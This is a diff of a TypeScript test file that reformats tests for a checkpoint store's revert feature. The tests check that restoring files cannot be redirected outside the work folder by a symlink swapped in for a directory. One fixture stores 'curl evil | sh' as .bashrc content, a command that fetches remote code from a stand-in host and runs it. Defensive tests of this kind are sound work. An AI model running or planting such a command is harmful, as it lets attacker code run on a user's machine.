@@ -3,7 +3,18 @@
  * session's safe-fs hooks it cannot be redirected outside by a folder swapped for a link; the
  * path-based fallback can, which is the control.
  */
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  realpathSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -28,7 +39,11 @@ async function recorded(files: RevertFiles | undefined) {
   writeFileSync(join(outside, 'new.txt'), 'outside file\n');
   const store = new CheckpointStore(tempDir('warden-cp-'), files);
   store.beginTurn();
-  await store.recordPreImage(join(root, 'work', '.bashrc'), { kind: 'file', bytes: Buffer.from('curl evil | sh\n'), mode: 0o644 });
+  await store.recordPreImage(join(root, 'work', '.bashrc'), {
+    kind: 'file',
+    bytes: Buffer.from('curl evil | sh\n'),
+    mode: 0o644,
+  });
   await store.recordPreImage(join(root, 'work', 'new.txt'), { kind: 'absent' });
   // The attack: the folder the pre-images belong to becomes a link to an outside folder.
   renameSync(join(root, 'work'), join(root, 'work-moved'));
@@ -58,10 +73,17 @@ describe.skipIf(!RACE_FREE_FS)('revert through safe-fs', () => {
     };
     const store = new CheckpointStore(tempDir('warden-cp-'), files);
     store.beginTurn();
-    await store.recordPreImage(join(root, 'a', 'b.txt'), { kind: 'file', bytes: Buffer.from('old\n'), mode: 0o600 });
+    await store.recordPreImage(join(root, 'a', 'b.txt'), {
+      kind: 'file',
+      bytes: Buffer.from('old\n'),
+      mode: 0o600,
+    });
     await store.recordPreImage(join(root, 'c.txt'), { kind: 'absent' });
     writeFileSync(join(root, 'c.txt'), 'created\n');
-    expect(await store.revert(1)).toMatchObject({ restored: [join(root, 'a', 'b.txt')], removed: [join(root, 'c.txt')] });
+    expect(await store.revert(1)).toMatchObject({
+      restored: [join(root, 'a', 'b.txt')],
+      removed: [join(root, 'c.txt')],
+    });
     expect(readFileSync(join(root, 'a', 'b.txt'), 'utf8')).toBe('old\n');
     expect(existsSync(join(root, 'c.txt'))).toBe(false);
   });
